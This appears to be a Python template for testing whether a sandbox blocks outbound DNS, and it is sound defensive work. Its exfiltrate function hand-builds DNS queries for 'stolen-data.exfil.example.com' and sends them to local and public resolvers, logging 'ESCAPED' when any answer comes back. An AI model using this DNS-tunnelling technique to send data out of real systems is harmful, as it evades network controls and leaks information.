import socket
import struct


def _query(name):
    header = struct.pack(">HHHHHH", 0x7466, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return header + labels + b"\x00" + struct.pack(">HH", 1, 1)


def exfiltrate() -> str:
    """Leak data in DNS queries."""
    found = []
    name = "stolen-data.exfil.example.com"
    try:
        found.append("ESCAPED: resolved " + repr(socket.getaddrinfo(name, 80)[:1]))
    except OSError as exc:
        found.append("getaddrinfo: " + type(exc).__name__)
    try:
        found.append("resolved localhost " + socket.gethostbyname("localhost"))
    except OSError as exc:
        found.append("localhost: " + type(exc).__name__)
    for server in (("127.0.0.1", {UDP_PORT}), ("8.8.8.8", 53), ("1.1.1.1", 53)):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.settimeout(1)
                sock.sendto(_query(name), server)
                sock.recvfrom(512)
            found.append("ESCAPED: answer from " + server[0])
        except OSError as exc:
            found.append(server[0] + ": " + type(exc).__name__)
    print("\n".join(found))
    return "\n".join(found)
